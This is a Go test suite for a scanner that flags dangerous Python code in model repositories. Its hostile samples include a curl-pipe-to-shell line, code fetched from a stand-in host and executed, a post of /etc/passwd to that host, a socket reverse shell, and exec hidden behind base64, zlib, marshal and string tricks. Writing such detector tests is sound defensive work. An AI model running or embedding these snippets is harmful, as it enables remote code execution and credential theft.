package pycode

import (
	"strings"
	"testing"
)

// Code in the style of what models bring.
var ordinary = map[string]string{
	"modeling": "import torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\n@torch.jit.script\ndef f(x):\n    return x\n\nclass X(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.act = getattr(nn, config.act)()\n    @classmethod\n    def from_pretrained(cls, path):\n        return cls.load(torch.load(path))\n",
	"kernel":   "import base64, bz2\nfrom cpm_kernels.kernels.base import LazyKernelCModule\nquantization_code = 'QlpoOTFB'\nclass Kernel:\n    def __init__(self, code):\n        self.code = LazyKernelCModule(code)\nkernels = Kernel(bz2.decompress(base64.b64decode(quantization_code)))\n",
	"compiler": "import ctypes, os\nclass CPU:\n    def __init__(self, path):\n        os.system('gcc -O3 -shared x.c -o x.so')\n        self.lib = ctypes.cdll.LoadLibrary(path)\n",
	"fetch":    "import requests\nfrom PIL import Image\nclass Processor:\n    def load(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n",
	"hub":      "from huggingface_hub import hf_hub_download\npath = hf_hub_download('a/b', 'vocab.txt')\n",
	"main":     "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['rm', 'x'])\n",
	"registry": "class A: pass\nALL = {c.__name__: c for c in A.__subclasses__()}\n",
	"nvcc":     "import subprocess\nversion = subprocess.check_output(['nvcc', '--version'])\n",
	"eval":     "class X:\n    def eval(self):\n        return self\nmodel = X().eval()\n",
	"wrap":     "import functools\ndef wrap(f):\n    g = f.__globals__\n    return functools.wraps(f)(lambda: g['x'])\n",
}

func TestOrdinary(t *testing.T) {
	for name, src := range ordinary {
		if got := Look(src); len(got) > 0 {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestHarm(t *testing.T) {
	for name, c := range map[string]struct {
		src    string
		script bool // told of code that no loader imports, too
	}{
		"system":        {"import os\nos.system('id')\n", false},
		"in a class":    {"import os\nclass Config:\n    os.popen('id')\n", false},
		"decorator":     {"import subprocess\ndef d(f):\n    subprocess.Popen(['sh', '-c', 'id'])\n    return f\n@d\ndef g(): pass\n", false},
		"called":        {"import subprocess as s\ndef f():\n    s.run('id', shell=True)\nf()\n", false},
		"instance":      {"import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n", false},
		"curl later":    {"import os\nclass M:\n    def __init__(self, c):\n        os.system('curl http://x.example/a | sh')\n", false},
		"base64":        {"import base64\nclass M:\n    def forward(self, x):\n        exec(base64.b64decode('cHJpbnQoMSk='))\n", true},
		"zlib":          {"import zlib, base64\ncode = base64.b64decode('eA==')\nexec(compile(zlib.decompress(code), 'x', 'exec'))\n", true},
		"marshal":       {"import marshal\nexec(marshal.loads(b'x'))\n", true},
		"chr":           {"exec(''.join(map(chr, [112, 114, 105])))\n", true},
		"reversed":      {"exec(')1(tnirp'[::-1])\n", true},
		"import name":   {"import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')\n", true},
		"fetched":       {"import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read())\n", true},
		"requests":      {"import requests\nrequests.post('http://x.example', data=open('/etc/passwd').read())\n", false},
		"socket":        {"import socket\ns = socket.socket()\ns.connect(('x.example', 1))\n", false},
		"reverse shell": {"import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('x.example', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n", true},
		"ctypes":        {"import ctypes\nctypes.CDLL('./x.so').run()\n", false},
		"getattr":       {"import os\ngetattr(os, 'system')('id')\n", false},
		"builtins":      {"for c in object.__subclasses__():\n    c.__init__.__globals__['__builtins__']['exec']('1')\n", true},
		"underscores":   {"x = getattr(object, '_' * 2 + 'subclasses' + '_' * 2)()\n", true},
		"eval":          {"eval('__import__(\"os\").system(\"id\")')\n", false},
	} {
		if got := Look(c.src); len(got) == 0 {
			t.Errorf("%s: nothing is told", name)
		}
		if got := LookScript(c.src); len(got) > 0 != c.script {
			t.Errorf("%s, that no loader imports: %v", name, got)
		}
	}
}

func TestBounds(t *testing.T) {
	if got := Look("import os\n" + strings.Repeat("os.system('id')\n", 1000)); len(got) > maxDoings {
		t.Errorf("%d are told", len(got))
	}
}

func Fuzz(f *testing.F) {
	for _, src := range ordinary {
		f.Add(src)
	}
	f.Add("exec(__import__('base64').b64decode('eA=='))")
	f.Fuzz(func(t *testing.T, src string) { Look(src); LookScript(src) })
}
